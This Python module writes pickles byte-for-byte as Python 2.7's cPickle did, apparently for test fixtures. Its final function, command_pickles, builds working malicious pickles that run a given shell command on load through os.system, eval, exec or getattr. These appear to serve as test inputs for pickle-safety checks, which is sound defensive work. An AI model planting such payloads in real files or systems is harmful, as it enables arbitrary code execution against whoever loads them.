"""Pickles as Python 2.7's cPickle wrote them at protocol 2, for fixtures of files Python 2 made.

Python 2 is not needed: the opcodes are written here, after CPython 2.7's `Modules/cPickle.c`. The
objects given stand for Python 2's: `bytes` for a Python 2 `str` (SHORT_BINSTRING, BINSTRING), `str`
for `unicode` (BINUNICODE), `Global` for a class or function named by its module, `Reduce` and
`NewObj` for what `__reduce_ex__(2)` returned; numpy arrays and dtypes as numpy 1.x reduced them.
cPickle's habits kept: memo indices from 1, no memo for strings shorter than 2 nor for the empty
tuple, dicts in Python 2's hash order. Not kept: cPickle also skips the memo for an object
referenced only once, so its memo indices are sparser; no reader depends on them."""

from __future__ import annotations

import struct
from typing import NamedTuple

import numpy as np


class Global(NamedTuple):
    module: str
    name: str


class Reduce(NamedTuple):
    "`func(*args)`, then `__setstate__(state)` unless state is None."

    func: object
    args: tuple
    state: object = None


class NewObj(NamedTuple):
    "`cls.__new__(cls)`, then `__setstate__(state)`: protocol 2's form of a plain class's instance."

    cls: Global
    state: object


def py2_hash(text: bytes) -> int:
    "CPython 2.7's hash of a `str` on a 64-bit build (no -R randomisation)."
    if not text:
        return 0
    x = text[0] << 7
    for c in text:
        x = ((1000003 * x) ^ c) % 2**64
    x ^= len(text)
    x = x - 2**64 if x >= 2**63 else x
    return -2 if x == -1 else x


def py2_dict_order(keys) -> list:
    "The order Python 2 iterates a small dict of `str` keys inserted in this order: by table slot."
    keys, table = list(keys), [None] * 8
    assert len(keys) <= 5, "more keys resize the table; not needed here"
    for key in keys:
        i = perturb = py2_hash(key) % 2**64
        while table[i % 8] is not None:  # CPython 2.7's open addressing
            i, perturb = 5 * i + perturb + 1, perturb >> 5
        table[i % 8] = key
    return [key for key in table if key is not None]


def dtype_reduce(dtype: np.dtype) -> Reduce:
    "numpy 1.x's `dtype.__reduce__`: `numpy.dtype(descr, 0, 1)`, state (3, endian, ..., flags)."
    _, (descr, _, _), state = dtype.__reduce__()
    state = (state[0], state[1].encode(), *state[2:])  # the endian character a Python 2 str
    return Reduce(Global("numpy", "dtype"), (descr.encode(), 0, 1), state)


def array_reduce(array: np.ndarray) -> Reduce:
    "numpy 1.x's `ndarray.__reduce__`: `_reconstruct(ndarray, (0,), 'b')`, a state with the data."
    fortran = bool(array.flags.f_contiguous and not array.flags.c_contiguous)
    data = list(array.ravel()) if array.dtype == object else array.tobytes("F" if fortran else "C")
    state = (1, tuple(int(d) for d in array.shape), array.dtype, fortran, data)
    zero = tuple([0])  # numpy builds (0,) anew for every array: never one memoised tuple
    make = Global("numpy.core.multiarray", "_reconstruct")
    return Reduce(make, (Global("numpy", "ndarray"), zero, b"b"), state)


class Py2Pickler:
    "Writes one object graph: `dumps(obj)` gives what cPickle.dumps(obj, 2) gave in Python 2."

    def __init__(self):
        self.out, self.memo = bytearray(b"\x80\x02"), {}

    def dumps(self, obj) -> bytes:
        self.save(obj)
        return bytes(self.out + b".")

    def put(self, key, obj):
        index = len(self.memo) + 1  # cPickle's memo starts at 1
        self.memo[key] = (index, obj)  # obj kept alive: its id is not reused
        self.out += b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)

    def save(self, obj):
        key = ("global", *obj) if isinstance(obj, Global) else id(obj)
        if key in self.memo:
            index = self.memo[key][0]
            self.out += b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)
            return
        if isinstance(obj, np.ndarray):
            return self.save_reduce(array_reduce(obj), obj)
        if isinstance(obj, np.dtype):
            return self.save_reduce(dtype_reduce(obj), obj)
        if isinstance(obj, slice):
            slice_ = Global("__builtin__", "slice")
            return self.save_reduce(Reduce(slice_, (obj.start, obj.stop, obj.step)), obj)
        for kind, write in (
            (Global, self.save_global),
            (Reduce, self.save_reduce),
            (NewObj, self.save_newobj),
            (tuple, self.save_tuple),
            (bytes, self.save_str),
            (str, self.save_unicode),
            (list, self.save_list),
            (dict, self.save_dict),
        ):
            if isinstance(obj, kind):
                return write(obj)
        self.out += self.scalar(obj)

    @staticmethod
    def scalar(obj) -> bytes:
        if obj is None:
            return b"N"
        if obj is True or obj is False:
            return b"\x88" if obj else b"\x89"
        if isinstance(obj, int):
            if 0 <= obj < 256:
                return b"K" + bytes([obj])
            if 0 <= obj < 65536:
                return b"M" + struct.pack("<H", obj)
            if -(2**31) <= obj < 2**31:
                return b"J" + struct.pack("<i", obj)
            return b"I%d\n" % obj
        if isinstance(obj, float):
            return b"G" + struct.pack(">d", obj)
        raise TypeError(f"no Python 2 form for {type(obj).__name__}")

    def save_global(self, obj: Global):
        self.out += b"c" + obj.module.encode() + b"\n" + obj.name.encode() + b"\n"
        self.put(("global", *obj), obj)

    def save_reduce(self, reduce: Reduce, obj=None):
        self.save(reduce.func)
        self.save(reduce.args)
        self.out += b"R"
        obj = reduce if obj is None else obj
        self.put(id(obj), obj)
        if reduce.state is not None:
            self.save(reduce.state)
            self.out += b"b"

    def save_newobj(self, obj: NewObj):
        self.save(obj.cls)
        self.out += b")\x81"  # no arguments to __new__
        self.put(id(obj), obj)
        self.save(obj.state)
        self.out += b"b"

    def save_tuple(self, obj: tuple):
        if not obj:
            self.out += b")"
            return
        if len(obj) > 3:
            self.out += b"("
        for item in obj:
            self.save(item)
        self.out += {1: b"\x85", 2: b"\x86", 3: b"\x87"}.get(len(obj), b"t")
        self.put(id(obj), obj)

    def save_str(self, obj: bytes):
        head = b"U" + bytes([len(obj)]) if len(obj) < 256 else b"T" + struct.pack("<i", len(obj))
        self.out += head + obj
        if len(obj) >= 2:
            self.put(id(obj), obj)  # cPickle: no memo for 0 or 1 characters

    def save_unicode(self, obj: str):
        data = obj.encode("utf-8")
        self.out += b"X" + struct.pack("<I", len(data)) + data
        self.put(id(obj), obj)

    def save_list(self, obj: list):
        self.out += b"]"
        self.put(id(obj), obj)
        for start in range(0, len(obj), 1000):  # cPickle's batches of 1000
            batch = obj[start : start + 1000]
            if len(batch) > 1:
                self.out += b"("
            for item in batch:
                self.save(item)
            self.out += b"e" if len(batch) > 1 else b"a"

    def save_dict(self, obj: dict):
        self.out += b"}"
        self.put(id(obj), obj)
        keys = py2_dict_order(obj)
        for start in range(0, len(keys), 1000):
            batch = keys[start : start + 1000]
            if len(batch) > 1:
                self.out += b"("
            for key in batch:
                self.save(key)
                self.save(obj[key])
            self.out += b"u" if len(batch) > 1 else b"s"


def py2_dumps(obj) -> bytes:
    "`obj` as Python 2.7's `cPickle.dumps(obj, 2)` pickled the Python 2 objects it stands for."
    return Py2Pickler().dumps(obj)


def command_pickles(command: str) -> dict[str, bytes]:
    """Pickles that run the shell `command` when `pickle.load` reads them: a top-level `os.system`,
    `builtins.eval`, `exec`, and `getattr(__import__('os'), 'system')` (Python 2 and 3 forms)."""
    shell = command.encode()

    def builtin(name):
        return Global("__builtin__", name)

    system = Reduce(builtin("getattr"), (Reduce(builtin("__import__"), (b"os",)), b"system"))
    return {
        "os.system": py2_dumps(Reduce(Global("posix", "system"), (shell,))),
        "eval": py2_dumps(Reduce(builtin("eval"), (b"__import__('os').system(%r)" % shell,))),
        "exec": b"\x80\x04cbuiltins\nexec\n(Vimport os; os.system(%r)\ntR." % command,
        "getattr": py2_dumps(Reduce(system, (shell,))),
    }
